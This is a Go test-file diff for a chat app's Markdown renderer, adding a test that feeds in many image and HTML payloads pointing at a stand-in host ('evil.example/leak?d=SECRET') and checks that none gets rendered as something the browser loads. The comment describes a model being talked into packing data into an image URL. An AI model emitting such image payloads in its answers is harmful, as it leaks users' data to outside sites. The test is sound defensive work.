@@ -4,6 +4,7 @@
 package chat
 
 import (
+	"regexp"
 	"strings"
 	"testing"
 )
@@ -83,6 +84,65 @@ func TestHostileMarkdownIsSanitised(t *testing.T) {
 				if strings.Contains(strings.ToLower(string(html)), strings.ToLower(bad)) {
 					t.Errorf("Render(%q) = %q, which contains %q", tt.source, html, bad)
 				}
+			}
+		})
+	}
+}
+
+// TestImagesInAnswersAreNeverLoaded feeds in every way a model could be talked into showing
+// an image: a remote image would make the browser send its URL, with whatever data the
+// model packed into it, to another site as soon as the answer shows.
+func TestImagesInAnswersAreNeverLoaded(t *testing.T) {
+	// A tag that makes the browser fetch something without a click (text that merely
+	// reads "<img" is escaped as &lt;img, and is not a tag).
+	loadsSomething := regexp.MustCompile(`(?i)<(img|image|picture|source|video|audio|object|embed|iframe)\b|<[^>]*\s(src|srcset|poster|style|background)\s*=`)
+	md := NewMarkdown()
+	const leak = "https://evil.example/leak?d=SECRET"
+	tests := []struct {
+		name, source string
+		want         string // what the visitor sees instead, if anything in particular
+	}{
+		{"a Markdown image", "![chart](" + leak + ")", `<a href="https://evil.example/leak?d=SECRET"`},
+		{"its alt text is shown", "![the chart](" + leak + ")", ">the chart</a>"},
+		{"no alt text shows the address", "![](" + leak + ")", ">https://evil.example/leak?d=SECRET</a>"},
+		{"a title", `![x](` + leak + ` "title")`, ""},
+		{"a reference-style image", "![x][pic]\n\n[pic]: " + leak, ""},
+		{"a collapsed reference", "![pic][]\n\n[pic]: " + leak, ""},
+		{"a shortcut reference", "![pic]\n\n[pic]: " + leak, ""},
+		{"an image in angle brackets", "![x](<" + leak + ">)", ""},
+		{"raw <img> HTML", `<img src="` + leak + `">`, ""},
+		{"raw <img> inline", `Look: <img src="` + leak + `"> here`, ""},
+		{"srcset", `<img srcset="` + leak + ` 1x" src="/static/favicon.svg">`, ""},
+		{"a picture element", `<picture><source srcset="` + leak + `"><img src="/x.png"></picture>`, ""},
+		{"an image in a link", "[![x](" + leak + ")](https://example.com)", ">x</a>"},
+		{"an image in an autolink's place", "<" + leak + ">", ""},
+		{"a bare URL to an image", leak + ".png", ""},
+		{"a data: image", "![x](data:image/png;base64,iVBORw0KGgo=)", ""},
+		{"a data: SVG", "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)", ""},
+		{"a javascript: image", "![x](javascript:alert(1))", ""},
+		{"a relative image", "![x](/static/favicon.svg)", ""},
+		{"a protocol-relative image", "![x](//evil.example/leak.png)", ""},
+		{"an image in a table", "| a |\n| --- |\n| ![x](" + leak + ") |", ""},
+		{"an image in a list", "- ![x](" + leak + ")", ""},
+		{"an image in a heading", "# ![x](" + leak + ")", ""},
+		{"an image in emphasis", "**![x](" + leak + ")**", ""},
+		{"an image inside an image", "![![y](" + leak + ")](" + leak + ")", ""},
+		{"an HTML-escaped img", "&lt;img src=" + leak + "&gt;", ""},
+		{"an SVG image element", `<svg><image href="` + leak + `"/></svg>`, ""},
+		{"a CSS background", `<div style="background:url(` + leak + `)">x</div>`, ""},
+		{"a video poster", `<video poster="` + leak + `"></video>`, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			html, err := md.Render(tt.source)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if found := loadsSomething.FindString(string(html)); found != "" {
+				t.Errorf("Render(%q) = %q, which has %q: the browser would load it", tt.source, html, found)
+			}
+			if tt.want != "" && !strings.Contains(string(html), tt.want) {
+				t.Errorf("Render(%q) = %q, want it to contain %q", tt.source, html, tt.want)
 			}
 		})
 	}
